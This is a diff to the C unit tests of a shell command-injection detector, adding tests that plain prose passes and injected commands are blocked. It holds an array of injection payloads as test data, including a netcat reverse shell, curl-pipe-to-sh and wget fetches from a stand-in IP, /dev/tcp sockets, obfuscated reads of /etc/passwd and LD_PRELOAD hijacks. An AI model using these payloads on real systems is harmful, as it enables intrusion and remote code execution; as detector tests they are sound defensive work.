@@ -337,8 +337,9 @@ static void data_inside_one_word_is_allowed(void **state)
 	/* a sentence with & and ; where the application quoted it */
 	assert_int_equal(sq("Tom & Jerry; the movie (1992)"), MOAT_ALLOW);
 	assert_int_equal(dq("Tom & Jerry; the movie (1992)"), MOAT_ALLOW);
-	/* unquoted it really runs Jerry: that is what the check is for */
-	assert_int_equal(unq("Tom & Jerry"), MOAT_BLOCK);
+	/* unquoted it starts a command named Jerry: no such program, nothing runs */
+	assert_int_equal(unq("Tom & Jerry"), MOAT_ALLOW);
+	assert_int_equal(unq("Tom & id"), MOAT_BLOCK);
 	assert_int_equal(unq("node-7.internal"), MOAT_ALLOW);
 }
 
@@ -370,6 +371,159 @@ static void text_full_of_shell_words_is_allowed(void **state)
 	                 MOAT_ALLOW);
 	assert_int_equal(unq("BLAH <A HREF=\"/X\">FOO</A>"), MOAT_ALLOW); /* reads, runs nothing */
 	assert_int_equal(unq("{% $NUM_VIEWS %} {a,b}"), MOAT_ALLOW);      /* words, not programs */
+}
+
+/* ---- free text: a new command named by an ordinary word runs nothing ---- */
+
+/* The application's script for argv {"sh", "-c", ...}, as the benchmark has it. */
+static int shc(const char *input)
+{
+	char script[4096];
+	const char *argv[] = {"sh", "-c", script, NULL};
+	struct moat_request *r = req_with(input);
+	int v;
+
+	snprintf(script, sizeof script, "nslookup -type=mx %s 8.8.8.8", input);
+	v = moat_check_argv(r, argv, -1);
+	moat_request_end(r);
+	return v;
+}
+
+/* Every unquoted place and the sh -c script: allowed in all of them. */
+static void prose_passes(const char *text)
+{
+	assert_int_equal(unq(text), MOAT_ALLOW);
+	assert_int_equal(ns(text), MOAT_ALLOW);
+	assert_int_equal(tail(text), MOAT_ALLOW);
+	assert_int_equal(shc(text), MOAT_ALLOW);
+}
+
+static void free_text_with_line_breaks_and_punctuation_is_allowed(void **state)
+{
+	(void)state;
+	prose_passes("Thanks for the quick reply.\n\nSee you on Monday.");
+	prose_passes("Hi team,\nplease find the notes below.\nCheers, Ana");
+	prose_passes("Great product; would buy again!");
+	prose_passes("The cake was great; but the coffee was cold.\nNext time, more sugar?");
+	prose_passes("Meeting moved to Friday & lunch is on us.");
+	prose_passes("Works fine | rated 5 stars | shipped fast");
+	prose_passes("Loved it!  Would you recommend it?");
+	prose_passes("Is it ready yet?\nLet me know.");
+	prose_passes("Comment vas-tu ?\nBien, merci !");
+	prose_passes("Step one; then step two; done.");
+	prose_passes("Keep calm -- and carry on.\n\t\t-- Anonymous");
+	prose_passes("Rock & roll will never die\nsaid nobody ever");
+	prose_passes("Tom & Jerry");
+	prose_passes("Q: Why?\nA: Because.");
+	prose_passes("line one\n\nline two\n");
+	prose_passes("you are here;");
+	prose_passes("I came; I saw; time will tell.");
+	prose_passes("1; exec will create the case 7");
+	prose_passes("for sale: bike & helmet; if interested, call");
+	/* text wrapped at a fixed width: a line may start with any word */
+	prose_passes("We waited for the storm to pass; it never did, and the\n"
+	             "true cost of the trip was only clear weeks later, when the\n"
+	             "bills came in.");
+	prose_passes("Remember: a ticket is only valid if stamped\nbefore boarding.");
+	assert_int_equal(ns("x; true"), MOAT_ALLOW); /* runs, but does nothing */
+	assert_int_equal(ns("x; true > /tmp/x.txt"), MOAT_BLOCK);
+}
+
+/* The same separators, followed by something that runs. */
+static void a_new_command_that_can_run_something_fires(void **state)
+{
+	static const char *const attacks[] = {
+	    "x;id",
+	    "x\nwhoami",
+	    "x|nc -e /bin/sh 203.0.113.7 1",
+	    "x;w'h'o'am'i",
+	    "x;\"i\"d",
+	    "x;c\\at /etc/passwd",
+	    "x;$0",
+	    "x;${SHELL}",
+	    "x;/bin/sh",
+	    "x;./run",
+	    "x && curl 203.0.113.7|sh",
+	    "x;python3 -c 'import os'",
+	    "x;exec 3<>/dev/tcp/203.0.113.7/80",
+	    "x;exec id",
+	    "x;time id",
+	    "x;env -i sh",
+	    "x;sudo -u root id",
+	    "x;nice -n 5 id",
+	    "x;timeout 5 id",
+	    "x;if id;then :;fi",
+	    "x;while sleep 5;do :;done",
+	    "x;for i in 1;do id;done",
+	    "x;{ id; }",
+	    "x;! id",
+	    "x;(id)",
+	    "x;c?t /etc/passwd",
+	    "x;/\?\?\?/c?t /etc/passwd",
+	    "x;{cat,/etc/passwd}",
+	    "x;PATH=/tmp/x",
+	    "x;LD_PRELOAD=/tmp/x.so",
+	    "x;IFS=, read a",
+	    "x;eval x",
+	    "x;. /tmp/x",
+	    "x;source /tmp/x",
+	    "x;kill -9 1",
+	    "x\n\n  uname -a",
+	    "Hello there.\nid",
+	    "id;",
+	    NULL,
+	};
+
+	(void)state;
+	for (int i = 0; attacks[i]; i++) {
+		int u = unq(attacks[i]), n = ns(attacks[i]), c = shc(attacks[i]);
+		if (u != MOAT_BLOCK || n != MOAT_BLOCK || c != MOAT_BLOCK)
+			fail_msg("not fired: '%s' (unquoted %d, nslookup %d, sh -c %d)", attacks[i],
+			         u, n, c);
+	}
+	/* an input that begins with ; | & && ||: nothing of its own but the
+	 * end of the application's command and another, whatever its name */
+	assert_int_equal(ns("; mytool --dump"), MOAT_BLOCK);
+	assert_int_equal(ns("| Foo"), MOAT_BLOCK);
+	assert_int_equal(ns(" && Foo bar"), MOAT_BLOCK);
+	assert_int_equal(ns("&quot;Hi&quot; said Ann"), MOAT_ALLOW); /* character references */
+	assert_int_equal(ns("\nFoo bar"), MOAT_ALLOW); /* text may begin with a line break */
+	/* breaking out of the application's quotes first */
+	assert_int_equal(sq("x'; whoami; echo '"), MOAT_BLOCK);
+	assert_int_equal(dq("x\"\nwget http://203.0.113.7/x -O /tmp/x\n\""), MOAT_BLOCK);
+	/* substitutions still fire whatever they hold */
+	assert_int_equal(unq("Tell me `more`"), MOAT_BLOCK);
+	assert_int_equal(unq("x $(Ask somebody)"), MOAT_BLOCK);
+	/* redirections that write files still fire */
+	assert_int_equal(unq("Note to self\n> /tmp/x.txt"), MOAT_BLOCK);
+}
+
+static void the_name_tables_are_sorted_and_answer(void **state)
+{
+	(void)state;
+	assert_true(ma_sh_names_sorted());
+	assert_int_equal(ma_sh_name_kind("id", 2), MA_SH_NAME_RUNS);
+	assert_int_equal(ma_sh_name_kind("whoami", 6), MA_SH_NAME_RUNS);
+	assert_int_equal(ma_sh_name_kind("[", 1), MA_SH_NAME_RUNS);
+	assert_int_equal(ma_sh_name_kind("zstdmt", 6), MA_SH_NAME_RUNS);
+	assert_int_equal(ma_sh_name_kind("7z", 2), MA_SH_NAME_RUNS);
+	assert_int_equal(ma_sh_name_kind(".", 1), MA_SH_NAME_RUNS);
+	assert_int_equal(ma_sh_name_kind("exec", 4), MA_SH_NAME_PREFIX);
+	assert_int_equal(ma_sh_name_kind("then", 4), MA_SH_NAME_OPENS);
+	assert_int_equal(ma_sh_name_kind("for", 3), MA_SH_NAME_RESERVED);
+	assert_int_equal(ma_sh_name_kind("Ask", 3), MA_SH_NAME_OTHER);
+	assert_int_equal(ma_sh_name_kind("ID", 2), MA_SH_NAME_OTHER);
+	assert_int_equal(ma_sh_name_kind("idx", 2), MA_SH_NAME_RUNS); /* n bytes: "id" */
+	assert_int_equal(ma_sh_name_kind("", 0), MA_SH_NAME_OTHER);
+	assert_true(ma_sh_name_glob("c?t", 3));
+	assert_true(ma_sh_name_glob("wh[o]am*", 8));
+	assert_true(ma_sh_name_glob("*", 1));
+	assert_false(ma_sh_name_glob("Why?", 4));
+	assert_false(ma_sh_name_glob("it?x", 4));
+	assert_true(ma_sh_name_env("PATH", 4));
+	assert_true(ma_sh_name_env("LD_PRELOAD", 10));
+	assert_false(ma_sh_name_env("PAGE", 4));
+	assert_false(ma_sh_name_env("ECID", 4));
 }
 
 /* ---- argv ---- */
@@ -489,6 +643,9 @@ int main(void)
 	    cmocka_unit_test(lines_longer_than_a_window_are_judged_whole),
 	    cmocka_unit_test(data_inside_one_word_is_allowed),
 	    cmocka_unit_test(text_full_of_shell_words_is_allowed),
+	    cmocka_unit_test(free_text_with_line_breaks_and_punctuation_is_allowed),
+	    cmocka_unit_test(a_new_command_that_can_run_something_fires),
+	    cmocka_unit_test(the_name_tables_are_sorted_and_answer),
 	    cmocka_unit_test(argv_options_programs_and_shells),
 	    cmocka_unit_test(a_check_that_does_not_fire_allocates_nothing),
 	    cmocka_unit_test(monitor_mode_logs_and_allows),
